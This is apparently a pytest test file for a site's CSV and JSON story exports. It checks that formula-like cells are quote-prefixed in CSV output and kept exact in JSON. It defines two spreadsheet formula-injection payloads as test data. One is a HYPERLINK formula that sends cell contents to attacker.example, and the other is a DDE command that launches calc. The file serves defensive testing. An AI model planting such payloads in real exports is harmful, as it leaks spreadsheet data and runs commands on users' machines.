"""CSV downloads never hand a spreadsheet a formula to run; JSON downloads keep the exact text."""

import csv
import io
import json

import pytest

from home.spreadsheets import spreadsheet_safe
from tests import factories
from tests.conftest import built_once, shared

pytestmark = pytest.mark.xdist_group("csv_safety")

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


def formula_story(site_tree, locales):
    """One story whose title and summary are formulas, published (so it is also searchable)."""
    story = factories.ReformStoryPageFactory(
        parent=site_tree["stories"], title=HYPERLINK, summary=COMMAND
    )
    story.save_revision().publish()
    return {"story": story}


module_data = built_once(formula_story, name="pages")


locales, site_tree, pages = shared("locales", "site_tree", "pages")


def body(response):
    """The whole body of a streamed download as text."""
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|x", "'+cmd|x"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.7038", "-3.7038"),
        ("+34", "+34"),
        ("1e-5", "1e-5"),
        ("Madrid = openness", "Madrid = openness"),
        ("", ""),
    ],
)
def test_spreadsheet_safe_quotes_only_what_a_spreadsheet_would_run(cell, shown):
    assert spreadsheet_safe(cell) == shown


@pytest.mark.parametrize(
    "address", ["/en/stories/export/csv/", "/en/search/export/csv/?q=hyperlink"]
)
def test_csv_download_neutralises_formula_cells(client, pages, address):
    response = client.get(address)
    assert response.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(body(response))))
    assert row["title"] == "'" + HYPERLINK
    assert row["summary"] == "'" + COMMAND


@pytest.mark.parametrize(
    "address", ["/en/stories/export/json/", "/en/search/export/json/?q=hyperlink"]
)
def test_json_download_keeps_the_exact_text(client, pages, address):
    response = client.get(address)
    assert response.status_code == 200
    (item,) = json.loads(body(response))["items"]
    assert item["title"] == HYPERLINK
    assert item["summary"] == COMMAND
